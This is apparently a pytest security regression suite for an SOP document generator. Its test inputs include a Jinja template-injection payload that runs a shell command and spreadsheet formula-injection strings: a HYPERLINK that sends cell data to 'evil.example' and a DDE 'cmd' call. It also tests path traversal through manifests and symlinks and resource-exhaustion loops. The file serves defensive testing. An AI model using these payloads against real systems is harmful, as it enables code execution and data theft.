"""The security cases of the reliability review: templates, manifest, revise, spreadsheets, paths.

Each test is named after its scenario; the review's case number is in the docstring.
"""

import io
import json
import os
import re
import shutil
import subprocess
import time
import zipfile
from pathlib import Path

import pytest
from conftest import DEFINITIONS
from hostile import GOOD, OTHER, SOPDOC, document_text, files_opened, invoke, template_with, unit
from openpyxl import load_workbook

from sopdoc.definition import reader
from sopdoc.export import forms, index
from sopdoc.export.manifest import Manifest


def _template_unit(tmp_path, tag):
    defs = tmp_path / "defs"
    folder = unit(defs, "kesbangpol", "template: t.docx\n")
    template_with(folder / "t.docx", tag)
    return defs


def test_template_cannot_run_shell_commands(tmp_path):
    """1.11: {{ cycler.__init__.__globals__.os.popen(...) }} ran a shell command."""
    marker = tmp_path / "PWNED"
    defs = _template_unit(tmp_path, "{{ cycler.__init__.__globals__.os.popen('id > %s; echo rce-ok').read() }}"
                          % marker)
    checked = invoke("validate", defs)
    rendered = invoke("render", defs, "--format", "docx", "--out", tmp_path / "out")
    assert not marker.exists()
    assert checked.exit_code == 1 and rendered.exit_code == 1
    assert re.search(r"kesbangpol/unit.yaml:3 template: berkas 't.docx': memuat perintah yang tidak diizinkan "
                     r"\(bagian dalam Python '__init__' tidak boleh dipakai\); template hanya boleh mencetak isian SOP",
                     checked.output)
    assert "Traceback" not in rendered.output and not list((tmp_path / "out").rglob("*.docx"))


def test_template_cannot_reach_python_internals(tmp_path):
    """1.10: ''.__class__.__mro__[1].__subclasses__() listed Python's classes in the document."""
    defs = _template_unit(tmp_path, "{{ ''.__class__.__mro__[1].__subclasses__() }}")
    result = invoke("validate", defs)
    assert result.exit_code == 1
    assert "bagian dalam Python '__class__' tidak boleh dipakai" in result.output


def test_a_template_that_passes_validate_is_still_sandboxed_when_rendered(tmp_path, monkeypatch):
    """1.10/1.11: the attack hides behind a value only one SOP has, so only the render meets it.

    validate renders a unit's template with the unit's first SOP (review 3, D12): the value is the second's.
    """
    monkeypatch.chdir(tmp_path)
    defs = _template_unit(Path(), "{% if nama == 'Lompatan ke depan melewati tiga baris' %}"
                                    "{{ nama.__class__.__mro__ }}{% endif %}")
    shutil.copy(OTHER, defs / "kesbangpol")
    assert invoke("validate", defs).exit_code == 0
    rendered = invoke("render", defs, "--format", "docx", "--out", "out")
    assert rendered.exit_code == 1
    assert ("defs/kesbangpol/lompat-tiga-baris.yaml: template defs/kesbangpol/t.docx: memuat perintah yang tidak "
            "diizinkan (bagian dalam Python '__class__' tidak boleh dipakai)") in rendered.output


@pytest.mark.parametrize("tag", [
    "{% for x in range(10**9) %}{% endfor %}",                                   # 1.12: 26.7 s
    "{% for x in range(10**6) %}{% for y in range(10**6) %}{% endfor %}{% endfor %}",  # 1.13: never ended
])
def test_template_loops_are_limited(tmp_path, tag):
    """1.12, 1.13: range() loops ran for minutes."""
    defs = _template_unit(tmp_path, tag)
    started = time.perf_counter()
    result = invoke("validate", defs)
    assert time.perf_counter() - started < 20  # a guard against hanging, not a speed measurement
    assert result.exit_code == 1
    assert "terlalu banyak yang dihitung: perulangan range() melebihi 100000 butir" in result.output


def test_template_huge_string_is_refused(tmp_path):
    """1.14: {{ 'A' * 10**9 }} used 5.9 GB and crashed."""
    defs = _template_unit(tmp_path, "{{ 'A' * 10**9 }}")
    result = invoke("render", defs, "--format", "docx", "--out", tmp_path / "out")
    assert result.exit_code == 1
    assert "teks atau daftar yang dibentuk melebihi 1000000 karakter" in result.output
    assert "Traceback" not in result.output


def test_template_loop_over_text_stops_at_the_time_limit(tmp_path, monkeypatch):
    """1.13 by another road: nested loops over long texts are bounded by time, not by range()."""
    from sopdoc import templating

    monkeypatch.setattr(templating, "SECONDS", 2)
    monkeypatch.setattr(templating, "CHECK_SECONDS", 2)
    defs = _template_unit(tmp_path, "{% for a in 'x' * 900000 %}{% for b in 'x' * 900000 %}{% endfor %}{% endfor %}")
    result = invoke("validate", defs)
    assert result.exit_code == 1
    assert "tidak selesai dalam 2 detik; sederhanakan perulangan di template" in result.output


def _exported(tmp_path):
    defs = tmp_path / "defs"
    unit(defs, "kesbangpol")
    out = tmp_path / "out"
    assert invoke("export", defs, "--out", out).exit_code == 0
    return defs, out


def test_tampered_manifest_never_deletes_outside_out(tmp_path, monkeypatch):
    """4.12 / S2: a manifest entry listing ../VICTIM.txt and a definition made export delete them."""
    monkeypatch.chdir(tmp_path)
    defs, out = _exported(Path())
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    definition = defs / "kesbangpol" / GOOD.name
    path = out / ".sopdoc-manifest.json"
    manifest = json.loads(path.read_text(encoding="utf-8"))
    manifest["sop:x/y"] = {"hash": "0", "files": ["../victim.txt", f"../defs/kesbangpol/{GOOD.name}",
                                                   str(victim)], "source": "/nonexistent.yaml"}
    path.write_text(json.dumps(manifest), encoding="utf-8")
    result = invoke("export", defs, "--out", out)
    assert result.exit_code == 0, result.output
    assert victim.read_text(encoding="utf-8") == "precious" and definition.is_file()
    assert ("Peringatan: 1 catatan di out/.sopdoc-manifest.json tidak sah (misalnya menunjuk ke luar folder hasil) "
            "dan diabaikan; hasilnya dibuat ulang") in result.output


def test_manifest_entries_reaching_out_through_a_link_are_ignored(tmp_path):
    """4.12, held-out kind: a path inside --out that a symlinked folder leads outside."""
    out = tmp_path / "out"
    out.mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "keep.txt").write_text("x", encoding="utf-8")
    (out / "unit").symlink_to(tmp_path / "elsewhere")
    (out / ".sopdoc-manifest.json").write_text(json.dumps(
        {"sop:u/a": {"hash": "0", "files": ["unit/keep.txt"], "source": "/gone.yaml", "pages": 1, "flow_pages": 1}}),
        encoding="utf-8")
    warnings = []
    manifest = Manifest(out, warnings.append)
    manifest.forget_removed()
    assert manifest.entries == {} and len(warnings) == 1
    assert (tmp_path / "elsewhere" / "keep.txt").is_file()


HEAD = "nama: Contoh revisi\ntanggal_pembuatan: 2024-01-15\n"
BODY = ("pelaksana: {kepala: Kepala Dinas, staf: Staf}\nkegiatan:\n"
        "  - {uraian: Memberikan disposisi, pelaksana: kepala}\n  - {uraian: Menyusun konsep, pelaksana: staf}\n")


def _sop(unit_dir, name="contoh.yaml"):
    path = unit_dir / name
    path.write_text(HEAD + BODY, encoding="utf-8")
    return path


def test_revise_does_not_write_through_a_symlinked_backup(unit_dir, tmp_path):
    """6.14: NAME.yaml.bak linked to a file outside the tree was overwritten with the SOP."""
    path = _sop(unit_dir)
    victim = tmp_path / "victim.txt"
    victim.write_text("important", encoding="utf-8")
    (unit_dir / "contoh.yaml.bak").symlink_to(victim)
    result = invoke("revise", path, "--tanggal", "2024-02-01", "--catatan", "x")
    assert result.exit_code == 0, result.output
    assert victim.read_text(encoding="utf-8") == "important"
    backup = unit_dir / "contoh.yaml.bak"
    assert not backup.is_symlink() and backup.read_text(encoding="utf-8") == HEAD + BODY


def test_revise_does_not_write_through_a_symlinked_staging_file(unit_dir, tmp_path):
    """6.15: the staging file .NAME.yaml.revisi.yaml linked outside was overwritten, then the link removed."""
    path = _sop(unit_dir)
    victim = tmp_path / "victim.txt"
    victim.write_text("important", encoding="utf-8")
    for name in (".contoh.yaml.revisi.yaml", ".contoh.yaml.tmp"):
        (unit_dir / name).symlink_to(victim)
    assert invoke("revise", path, "--tanggal", "2024-02-01", "--catatan", "x").exit_code == 0
    assert victim.read_text(encoding="utf-8") == "important"
    assert "tanggal: 2024-02-01" in path.read_text(encoding="utf-8")


def test_revise_of_a_symlinked_sop_revises_its_target(unit_dir):
    """6.11: the link was replaced by a regular 0600 file and the real file was not revised."""
    master = unit_dir.parent / "master"
    master.mkdir()
    real = _sop(master, "pelaporan.yaml")
    link = unit_dir / "pelaporan.yaml"
    link.symlink_to(real)
    result = invoke("revise", link, "--tanggal", "2024-02-01", "--catatan", "Lewat tautan")
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and link.resolve() == real.resolve()
    assert "catatan: Lewat tautan" in real.read_text(encoding="utf-8")
    assert (master / "pelaporan.yaml.bak").read_text(encoding="utf-8") == HEAD + BODY


FORMULAS = {"nama": '=HYPERLINK("http://evil.example/?x="&A1,"klik")', "nomor": "=cmd|' /C calc'!A0",
            "diganti_oleh": '=HYPERLINK("http://evil","ganti")'}


def _formula_sops(tmp_path):
    folder = unit(tmp_path / "defs", "kesbangpol", "", ())
    (folder / "unit.yaml").write_text('pemerintah: "=1+1"\nunit: \'=HYPERLINK("http://evil","unit")\'\n',
                                      encoding="utf-8")
    text = GOOD.read_text(encoding="utf-8").replace("nama: Keputusan dengan perbaikan berulang\n", "")
    text = text.replace('nomor: "800/   /UJI/2024"\n', "")
    extra = "".join(f"{key}: {json.dumps(value)}\n" for key, value in FORMULAS.items())
    (folder / "a.yaml").write_text(extra + "status: diganti\n" + text, encoding="utf-8")
    result = reader.read([folder])
    assert not result.errors, result.errors
    return folder, result.sops


def _has_formula(xlsx: bytes) -> bool:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/")]
        return any(b"<f>" in package.read(n) or b"<f " in package.read(n) for n in sheets)


def test_formula_like_values_are_text_in_the_index(tmp_path):
    """3.1, 3.3 / S4: nama, nomor, unit and diganti_oleh starting with '=' became live formulas."""
    folder, sops = _formula_sops(tmp_path)
    data = index.workbook({folder: index.Listed(sops[0].unit, sops)}, {}, {}, {}, [], tmp_path / "out")
    assert not _has_formula(data)
    path = tmp_path / "indeks.xlsx"
    path.write_bytes(data)
    values = {c.value: c.data_type for sheet in load_workbook(path) for row in sheet.iter_rows() for c in row
              if isinstance(c.value, str) and c.value.startswith("=")}
    assert set(values) >= {*FORMULAS.values(), '=HYPERLINK("http://evil","unit")', "=1+1"}
    assert set(values.values()) == {"s"}


def test_formula_like_values_are_text_in_the_monitoring_workbook(tmp_path):
    """3.1 / S4: the monitoring form's unit and procedure cells became formulas."""
    _, sops = _formula_sops(tmp_path)
    data = forms.monitoring_xlsx(sops[0].unit, sops)
    assert not _has_formula(data)


def test_keterkaitan_never_reads_outside_the_tree(tmp_path):
    """1.16, 1.17: '../../secret/x' opened a SOP outside the tree and printed its nama."""
    secret = unit(tmp_path, "secret", "", ())
    (secret / "x.yaml").write_text(GOOD.read_text(encoding="utf-8").replace(
        "nama: Keputusan dengan perbaikan berulang", "nama: RAHASIA-DI-LUAR-POHON"), encoding="utf-8")
    folder = unit(tmp_path / "defs", "kesbangpol", "", ())
    text = GOOD.read_text(encoding="utf-8").replace(
        "tanggal_pembuatan:", f"keterkaitan: [../../secret/x, x, {secret / 'x'}, ../secret/x]\ntanggal_pembuatan:")
    (folder / "p.yaml").write_text(text, encoding="utf-8")
    with files_opened() as opened:
        result = invoke("render", folder, "--format", "docx", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert not [p for p in opened if "secret" in p]
    xml = document_text(tmp_path / "out" / "kesbangpol" / "p.docx")
    assert "RAHASIA" not in xml and "../../secret/x" in xml


def test_rendering_one_file_names_a_linked_sibling_sop(tmp_path):
    """1.16: a slug that is an SOP file of the same unit still prints that SOP's name."""
    folder = unit(tmp_path / "defs", "kesbangpol", "", (OTHER,))
    text = GOOD.read_text(encoding="utf-8").replace("tanggal_pembuatan:", "keterkaitan: [lompat-tiga-baris]\n"
                                                                          "tanggal_pembuatan:")
    (folder / "p.yaml").write_text(text, encoding="utf-8")
    assert invoke("render", folder / "p.yaml", "--format", "docx", "--out", tmp_path / "out").exit_code == 0
    assert "Lompatan ke depan melewati tiga baris" in document_text(tmp_path / "out" / "kesbangpol" / "p.docx")


def test_definitions_folder_with_its_own_unit_file_keeps_logos_inside(tmp_path):
    """1.18: defs/unit.yaml saying logo: ../luar.png embedded a picture from outside defs/."""
    from PIL import Image

    home = tmp_path / "home"
    (home / "defs" / "d").mkdir(parents=True)
    Image.new("RGB", (9, 9)).save(home / "luar.png")
    (home / "defs" / "unit.yaml").write_text("pemerintah: X\nlogo: ../luar.png\n", encoding="utf-8")
    (home / "defs" / "d" / "unit.yaml").write_text("unit: D\n", encoding="utf-8")
    shutil.copy(GOOD, home / "defs" / "d")
    for named in (home / "defs", home / "defs" / "d", home / "defs" / "d" / GOOD.name):
        result = reader.read([named])
        assert [(p.file.name, p.line, p.key) for p in result.errors] == [("unit.yaml", 2, "logo")], named
        assert "berada di luar folder definisi" in result.errors[0].message and not result.sops


def test_symlinked_sop_pointing_outside_the_tree_is_not_read(tmp_path):
    """7.9 (note): host.yaml -> /etc/hostname was read; a link inside the tree still counts."""
    folder = unit(tmp_path / "defs", "kesbangpol")
    outside = tmp_path / "outside.yaml"
    shutil.copy(OTHER, outside)
    (folder / "luar.yaml").symlink_to(outside)
    (folder / "dalam.yaml").symlink_to(folder / GOOD.name)
    (folder / "loop").symlink_to(folder.parent)
    with files_opened() as opened:
        result = reader.read([tmp_path / "defs"])
    assert str(outside) not in opened
    assert sorted(s.slug for s in result.sops) == ["dalam", "keputusan-kembali"]
    messages = {p.file.name: (p.severity, p.message) for p in result.problems}
    assert messages["luar.yaml"] == ("galat", f"tautan (symlink) ke berkas di luar folder definisi ({outside}), "
                                              "jadi tidak dibaca; salin berkasnya ke dalam folder itu")
    assert messages["loop"] == ("peringatan", "folder ini tautan (symlink) dan tidak dimasuki; letakkan folder unit "
                                              "langsung di folder definisi")


@pytest.mark.parametrize("kind", ["fifo", "zero"])
def test_fifo_or_device_given_directly_is_refused_without_hanging(tmp_path, kind):
    """7.10: validate on a FIFO hung; on a link to /dev/zero its memory grew 1 GB/s."""
    folder = unit(tmp_path / "defs", "kesbangpol", "", ())
    path = folder / "pipa.yaml"
    if kind == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to("/dev/zero")
    run = subprocess.run([*SOPDOC, "validate", str(path)], capture_output=True, text=True, timeout=60)
    assert run.returncode == 1
    assert "pipa.yaml bukan berkas biasa (mungkin pipa, perangkat atau soket), jadi tidak dibaca" in run.stderr


def test_fifo_inside_the_tree_is_reported_not_read(tmp_path):
    """7.9: a FIFO in the tree must not hang validate; now it is also named."""
    folder = unit(tmp_path / "defs", "kesbangpol")
    os.mkfifo(folder / "pipa.yaml")
    result = reader.read([tmp_path / "defs"])
    assert [s.slug for s in result.sops] == ["keputusan-kembali"]
    assert [(p.file.name, p.message.split(" (")[0]) for p in result.errors] == [("pipa.yaml", "bukan berkas biasa")]


def test_file_growing_past_the_limit_while_read_is_cut_at_the_limit(tmp_path):
    """7.10: the size limit holds while reading, not only from the size the file had before."""
    from sopdoc.definition import yamlsafe

    path = tmp_path / "besar.yaml"
    path.write_bytes(b"a: " + b"x" * (yamlsafe.MAX_BYTES + 10))
    with pytest.raises(yamlsafe.YamlLoadError, match="berkas terlalu besar"):
        yamlsafe.read_bytes(path)


def test_seeds_still_validate_after_the_containment_rules(tmp_path):
    """Every seed still reads, named as a tree or as one unit."""
    assert len(reader.read([DEFINITIONS]).sops) == 5
    one = reader.read([DEFINITIONS / "kab-way-kanan" / "diskominfo"])
    assert not one.errors and len(one.sops) == 2
    assert Path(one.sops[0].unit.key) == Path("kab-way-kanan/diskominfo")
